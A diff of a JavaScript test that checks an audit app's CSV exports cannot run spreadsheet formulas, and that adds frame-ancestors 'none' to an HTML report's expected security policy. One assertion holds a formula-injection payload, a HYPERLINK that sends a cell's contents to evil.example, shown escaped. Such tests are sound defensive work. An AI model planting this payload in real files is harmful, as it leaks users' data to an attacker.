@@ -21,7 +21,7 @@ describe("app server: the audit's CSV exports are safe to open", function () {
     expect(line).to.include(`"'=HYPERLINK(""https://evil.example/?d=""&B2,""Open the attachment"")"`);
     // The HTML report keeps its own policy (no script at all, its inline styles), not the API's.
     const report = await get("/api/ledger/audit/report.html", regulator);
-    expect(report.headers.get("content-security-policy")).to.equal("default-src 'none'; style-src 'unsafe-inline'; img-src data:");
+    expect(report.headers.get("content-security-policy")).to.equal("default-src 'none'; style-src 'unsafe-inline'; img-src data:; frame-ancestors 'none'");
     expect(report.headers.get("x-content-type-options")).to.equal("nosniff");
     // No cell of any export starts a formula.
     for (const file of ["loans.csv", "participants.csv", "attestations.csv", "movements.csv", "positions.csv", "regulator-actions.csv"]) {
